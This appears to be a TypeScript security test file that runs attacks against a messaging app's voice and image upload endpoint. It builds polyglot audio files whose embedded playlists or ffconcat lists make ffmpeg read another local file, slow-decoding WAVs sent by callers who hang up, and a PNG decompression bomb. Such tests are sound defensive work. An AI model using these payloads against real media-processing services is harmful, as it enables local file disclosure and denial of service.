import { randomUUID } from 'node:crypto';
import { rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { as } from '../../support/access.js';
import { CONNECTION } from '../../crash/cast.js';
import type { Arena } from '../arena.js';
import type { Attack } from '../attack.js';

const SEND = '/api/whatsapp-integration/messages/send';

/** An ID3v2 tag with a footer, FLAC's magic, then a playlist: sniffed as a sound, played as a list of files. */
function playlistInFlac(file: string): Buffer {
  const id3 = Buffer.from([0x49, 0x44, 0x33, 4, 0, 0x10, 0, 0, 0, 0, 0x33, 0x44, 0x49, 4, 0, 0x10, 0, 0, 0, 0]);
  return Buffer.concat([id3, Buffer.from('fLaC\n'), playlist(file)]);
}
const playlist = (file: string) =>
  Buffer.from(`#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile://${file}\n#EXT-X-ENDLIST\n`);

/** Four megabytes that ffmpeg would decode to more than an hour of sound. */
function slowWav(): Buffer {
  const bytes = Buffer.alloc(4 * 1024 * 1024);
  bytes.write('RIFF', 0);
  bytes.writeUInt32LE(bytes.length - 8, 4);
  bytes.write('WAVEfmt ', 8);
  bytes.writeUInt32LE(16, 16);
  bytes.writeUInt16LE(1, 20);
  bytes.writeUInt16LE(1, 22);
  bytes.writeUInt32LE(1, 24);
  bytes.writeUInt32LE(1, 28);
  bytes.writeUInt16LE(1, 32);
  bytes.writeUInt16LE(8, 34);
  bytes.write('data', 36);
  bytes.writeUInt32LE(bytes.length - 44, 40);
  return bytes;
}

async function upload({ url }: Arena, key: string, name: string, bytes: Buffer, signal?: AbortSignal) {
  const form = new FormData();
  form.set('connectionId', CONNECTION);
  form.set('to', '5511988880001');
  form.set('type', 'voice');
  form.set('file', new Blob([new Uint8Array(bytes)]), name);
  const answer = await fetch(`${url}${SEND}?wait=0`, {
    method: 'POST',
    headers: as(key),
    body: form,
    signal: signal ?? AbortSignal.timeout(90_000),
  });
  return { status: answer.status, text: await answer.text() };
}

/** A "voice note" that makes ffmpeg read another file of this machine. */
export const polyglots: Attack = {
  name: '2 sounds that name other files',
  async run(arena) {
    const secret = join(arena.stage.dir, `${randomUUID()}.wav`);
    await writeFile(secret, slowWav().subarray(0, 8_044));
    const files: [string, Buffer][] = [
      ['recado.flac', playlistInFlac(secret)],
      ['recado.m3u8', playlist(secret)],
      ['recado.mp3', Buffer.concat([Buffer.from('ID3\x04\0\0\0\0\0\0', 'latin1'), playlist(secret)])],
      ['lista.txt', Buffer.from(`ffconcat version 1.0\nfile ${secret}\n`)],
    ];
    const answers = [];
    for (const [name, bytes] of files) answers.push({ name, ...(await upload(arena, arena.keys.victim, name, bytes)) });
    await rm(secret);
    const breaches = answers.filter(({ status }) => status < 400).map(({ name }) => `${name} was played`);
    return { figure: answers.map(({ name, status }) => `${name} ${status}`).join(', '), breaches };
  },
};

/** Sounds that cost a minute of CPU each, from callers who hang up. */
export const slowSounds: Attack = {
  name: '6 twelve slow sounds, callers hang up',
  async run(arena) {
    const bytes = slowWav();
    const left = Array.from({ length: 12 }, () =>
      upload(arena, arena.keys.victim, 'lento.wav', bytes, AbortSignal.timeout(3_000)).then(
        ({ status }) => `${status}`,
        () => 'left',
      ),
    );
    const answers = await Promise.all(left);
    return { figure: answers.join(' '), breaches: [] };
  },
};

/** A few kilobytes that are 30,000 × 30,000 pixels once somebody decodes them. */
export const pixelBomb: Attack = {
  name: '11 a picture of 900 million pixels',
  async run(arena) {
    const { deflateSync, crc32 } = await import('node:zlib');
    const crc = crc32 as ((bytes: Buffer) => number) | undefined;
    const side = 30_000;
    const chunk = (type: string, data: Buffer) => {
      const body = Buffer.concat([Buffer.from(type), data]);
      const size = Buffer.alloc(4);
      size.writeUInt32BE(data.length);
      const sum = Buffer.alloc(4);
      sum.writeUInt32BE((crc ? crc(body) : crcOf(body)) >>> 0);
      return Buffer.concat([size, body, sum]);
    };
    const head = Buffer.alloc(13);
    head.writeUInt32BE(side, 0);
    head.writeUInt32BE(side, 4);
    head.set([1, 0, 0, 0, 0], 8);
    const rows = deflateSync(Buffer.alloc((side / 8 + 1) * side));
    const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    const png = Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
    const form = new FormData();
    for (const [name, value] of Object.entries({ connectionId: CONNECTION, to: '5511988880001', type: 'image' }))
      form.set(name, value);
    form.set('file', new Blob([new Uint8Array(png)]), 'bomba.png');
    const answer = await fetch(`${arena.url}${SEND}?wait=0`, {
      method: 'POST',
      headers: as(arena.keys.victim),
      body: form,
    });
    return { figure: `${png.length} bytes: ${answer.status}`, breaches: [] };
  },
};

/** CRC-32 (PNG, annex D), for a Node whose zlib has none. */
function crcOf(bytes: Buffer): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  return ~crc;
}
